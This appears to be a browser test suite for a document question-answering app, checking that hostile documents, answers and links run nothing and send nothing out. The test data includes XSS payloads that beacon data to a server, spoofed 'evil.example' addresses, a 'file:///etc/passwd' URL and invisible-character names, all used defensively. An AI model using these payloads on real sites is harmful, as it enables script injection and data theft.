// Hostile documents, answers and links → nothing is run, and nothing is sent where the person did not send it.
import assert from "node:assert/strict";
import { after, before } from "node:test";
import { story } from "./browser.mjs";
import { rules, temporaryFolder } from "./documents.mjs";
import { startFaultServer } from "./fault-server.mjs";
import { until } from "./process.mjs";

/** @type {Awaited<ReturnType<typeof startFaultServer>>} */
let server;
before(async () => {
  server = await startFaultServer();
});
after(() => server?.stop());

const { write } = temporaryFolder();
const file = write("rules.md", rules);

/** Everything that would run or call home, if it were taken for more than text. */
const hostile = () => {
  const beacon = (/** @type {string} */ name) => `${server.origin}/beacon/${name}?text=secret`;
  return [
    `<script>globalThis.pwned = 1; fetch("${beacon("script")}")</script>`,
    `<img src="${beacon("image")}" onerror="globalThis.pwned = 2">`,
    `![a picture](${beacon("markdown-image")})`,
    `[press here](javascript:globalThis.pwned=3)`,
    `<a href="javascript:globalThis.pwned=4">or here</a>`,
    `<iframe src="${beacon("frame")}"></iframe>`,
    `<svg onload="globalThis.pwned = 5"><use href="${beacon("use")}"></use></svg>`,
    `<style>@import url("${beacon("style")}"); body { background: url("${beacon("background")}") }</style>`,
    `<link rel="prefetch" href="${beacon("prefetch")}">`,
    `<form action="${beacon("form")}"><button autofocus>go</button></form>`,
    `[[1]](${beacon("cited-link")}) <base href="${beacon("base")}">`,
    `<details open ontoggle="globalThis.pwned = 6">`,
  ].join("\n\n");
};
const escaped = (/** @type {string} */ text) => text.replaceAll("<", "&lt;");
const fragment = () => `#api=openai&base-url=${encodeURIComponent(server.baseUrl("says"))}&llm=m`;

story(
  "hostile documents and answers run nothing and call nowhere",
  async ({ desk, page, requests }) => {
    const name = "<img src=x onerror=globalThis.pwned=7>";
    await desk.choose(
      {
        name: `${name}.md`,
        mimeType: "text/markdown",
        buffer: Buffer.from(`# ${name}\n\nThe vault code is kept here.\n\n${hostile()}`),
      },
      {
        name: "hostile.html",
        mimeType: "text/html",
        buffer: Buffer.from(
          `<!doctype html><title>${escaped(name)}</title><body onload="globalThis.pwned=8">` +
            `<p>The vault code is in the safe.</p>${hostile()}<p>${escaped(hostile())}</p>`,
        ),
      },
    );
    await desk.settled(2);
    assert.deepEqual(
      (await desk.rows()).map(({ state }) => state),
      ["ready", "ready"],
    );

    server.state.text = `The vault code is kept here [1].\n\n${hostile()}\n\n1. <b>bold</b>\n\n> ${hostile()}`;
    await desk.ask(`${name} Where is the vault code?`);
    await desk.answered();
    const shown = await desk.answer.innerText();
    assert.match(shown, /<script>globalThis\.pwned = 1/, "markup is shown as the text that it is");
    for (const source of await page.locator("[data-carrel=source] .title").all()) {
      await source.click();
      await page.locator("#viewer .slice").first().waitFor();
      assert.match(await page.locator("#viewer-text").innerText(), /vault code/);
      await page.keyboard.press("Escape");
    }
    await page.locator("details", { hasText: "What was sent" }).locator("summary").click();
    await page.locator("details.trace pre").waitFor();

    const made = await page.evaluate(() => {
      const own = document.querySelectorAll("script, link, img, iframe, style, base, object, embed, form");
      const made = [...own].filter((element) =>
        element.closest("#entries, #viewer, [data-carrel=documents], #suggestions"),
      );
      const handlers = [...document.querySelectorAll("*")].flatMap((element) =>
        element.getAttributeNames().filter((attribute) => attribute.startsWith("on")),
      );
      return {
        made: made.map(({ outerHTML }) => outerHTML),
        handlers,
        links: [...document.querySelectorAll("#entries a, #viewer a")].length,
      };
    });
    assert.deepEqual(made, { made: [], handlers: [], links: 0 });
    assert.equal(await page.evaluate(() => /** @type {any} */ (globalThis).pwned), undefined);
    await page.waitForTimeout(500);
    const posts = server.requests.filter(({ path }) => path !== "/says/v1/chat/completions");
    assert.deepEqual(posts, [], "no beacon was called");
    const elsewhere = requests.filter(
      (url) =>
        !url.startsWith(new URL(page.url()).origin) &&
        !url.startsWith(server.baseUrl("says")) &&
        !/^(blob|data):/.test(url),
    );
    assert.deepEqual(elsewhere, []);
  },
  { fragment },
);

story(
  "a link to an API elsewhere is asked about first, and nothing is sent before it is accepted",
  async ({ desk, page, context, requests }) => {
    const said = "It closes at half past six in the evening [1].";
    const stream = [
      { delta: { content: said }, finish_reason: null },
      { delta: {}, finish_reason: "stop" },
    ]
      .map((choice) => `data: ${JSON.stringify({ choices: [{ index: 0, ...choice }] })}\n\n`)
      .join("");
    await context.route("http://model.example/**", (route) =>
      route.fulfill({
        status: 200,
        contentType: "text/event-stream",
        headers: { "access-control-allow-origin": "*" },
        body: `${stream}data: [DONE]\n\n`,
      }),
    );
    const sent = () => requests.filter((url) => url.includes("model.example"));
    await desk.open("#api=openai&base-url=http%3A%2F%2Fmodel.example%2Fv1&llm=big");
    const consent = page.locator("#consent");
    assert.ok(await consent.isVisible(), "the person is asked");
    const text = await consent.innerText();
    for (const told of [/model\.example/, /big/, /not on this machine/, /not encrypted/]) assert.match(text, told);
    assert.equal(
      await page.evaluate(() => document.activeElement?.id),
      "consent-no",
      "what is safe is chosen already",
    );

    await page.keyboard.press("Escape");
    assert.match(await page.locator("#origin").innerText(), /Extractive/);
    await desk.choose(file);
    await desk.settled(1);
    await desk.ask("When does the reading room close?");
    await desk.answered();
    assert.deepEqual(sent(), [], "nothing was sent without consent");

    await page.reload();
    await consent.getByRole("button", { name: "Send them there" }).click();
    await until("it is accepted", async () => (await page.locator("#origin").innerText()) === "big at model.example");
    assert.deepEqual(sent(), [], "consent alone sends nothing");
    await desk.choose(file);
    await desk.settled(1);
    await desk.ask("When does the reading room close?");
    await desk.answered();
    assert.equal(await desk.answerText(), "It closes at half past six in the evening .");
    assert.deepEqual(new Set(sent()), new Set(["http://model.example/v1/chat/completions"]));
  },
  { fragment: null },
);

story(
  "addresses that only look like this machine are asked about, and what is no address is refused",
  async ({ desk, page }) => {
    for (const address of [
      "http://127.0.0.1.evil.example/v1",
      "http://localhost.evil.example/v1",
      "http://localhost@evil.example/v1",
      "http://127.0.0.1@evil.example/v1",
      "//evil.example/v1",
      "javascript:alert(1)",
      "file:///etc/passwd",
      "http://0.0.0.0:1/v1",
    ]) {
      await page.goto("about:blank");
      await desk.open(`#api=openai&base-url=${encodeURIComponent(address)}&llm=m`);
      await page.locator("#consent[open], .notice:not(#offline)").first().waitFor();
      assert.match(await page.locator("#origin").innerText(), /Extractive/, address);
    }
  },
  { fragment: null },
);

story(
  "a link's model whose name has letters that cannot be seen is refused",
  async ({ desk, page }) => {
    for (const unseen of ["\u202E", "\u2066", "\u200B", "\u2028", "\u{E0041}"]) {
      await page.goto("about:blank");
      await desk.open(`#api=openai&base-url=https%3A%2F%2Fmodel.example%2Fv1&llm=${encodeURIComponent(`m${unseen}odel`)}`);
      await page.locator(".notice", { hasText: "cannot be seen" }).waitFor();
      assert.ok(!(await page.locator("#consent").isVisible()));
      assert.match(await page.locator("#origin").innerText(), /Extractive/);
    }
  },
  { fragment: null },
);

story(
  "a key in the address is not used, and is taken out of it",
  async ({ desk, page }) => {
    server.state.text = "It closes at half past six in the evening [1].";
    assert.ok(!page.url().includes("sk-secret"), page.url());
    assert.match(await page.locator("#notices").innerText(), /held an API key.*not used/);
    assert.equal(await page.locator("#api-key").inputValue(), "");
    await desk.choose(file);
    await desk.settled(1);
    server.requests.length = 0;
    await desk.ask("When does the reading room close?");
    await desk.answered();
    const post = server.requests.find(({ method }) => method === "POST");
    assert.ok(post);
    assert.equal(post.headers.authorization, undefined);
    assert.ok(!JSON.stringify(server.requests).includes("sk-secret"));
  },
  { fragment: () => `${fragment()}&api-key=sk-secret-1&key=sk-secret-2` },
);

story(
  "a key goes to the address it was typed for, and to no other",
  async ({ desk, page }) => {
    await desk.choose(file);
    await desk.settled(1);
    server.state.text = "It closes at half past six in the evening [1].";
    server.requests.length = 0;
    await page.getByRole("button", { name: "Settings", exact: true }).click();
    await page.locator("#api-key").fill("sk-typed");
    await page.locator("#settings-close").click();
    await desk.ask("When does the reading room close?");
    await desk.answered();
    assert.equal(server.requests.find(({ method }) => method === "POST")?.headers.authorization, "Bearer sk-typed");
    const kept = await page.evaluate(() =>
      JSON.stringify([location.href, { ...localStorage }, { ...sessionStorage }, document.cookie]),
    );
    assert.ok(!kept.includes("sk-typed"), "it is kept in memory only");

    const other = await startFaultServer();
    try {
      other.state.text = server.state.text;
      await page.evaluate(
        (hash) => {
          location.hash = hash;
        },
        `api=openai&base-url=${encodeURIComponent(other.baseUrl("says"))}&llm=m`,
      );
      await until("the page turns to it", async () =>
        (await page.locator("#origin").innerText()).includes(new URL(other.origin).host),
      );
      await desk.ask("When does the reading room close?");
      await desk.answered();
      assert.equal(other.requests.find(({ method }) => method === "POST")?.headers.authorization, undefined);
    } finally {
      await other.stop();
    }
  },
  { fragment },
);

story(
  "the content security policy stops scripts that are not the site's",
  async ({ page, problems }) => {
    await page.evaluate((origin) => {
      const inline = document.createElement("script");
      inline.textContent = "globalThis.pwned = 'inline'";
      const foreign = document.createElement("script");
      foreign.src = `${origin}/beacon/script.js`;
      const picture = document.createElement("img");
      picture.setAttribute("onerror", "globalThis.pwned = 'handler'");
      picture.src = `${origin}/beacon/picture.png`;
      const frame = document.createElement("iframe");
      frame.src = `${origin}/beacon/frame.html`;
      document.body.append(inline, foreign, picture, frame);
    }, server.origin);
    await until("all four were stopped", () => problems.length >= 4);
    assert.equal(await page.evaluate(() => /** @type {any} */ (globalThis).pwned), undefined);
    assert.deepEqual(
      server.requests.filter(({ path }) => path.startsWith("/beacon/")),
      [],
    );
  },
  { expected: [/Content Security Policy/] },
);
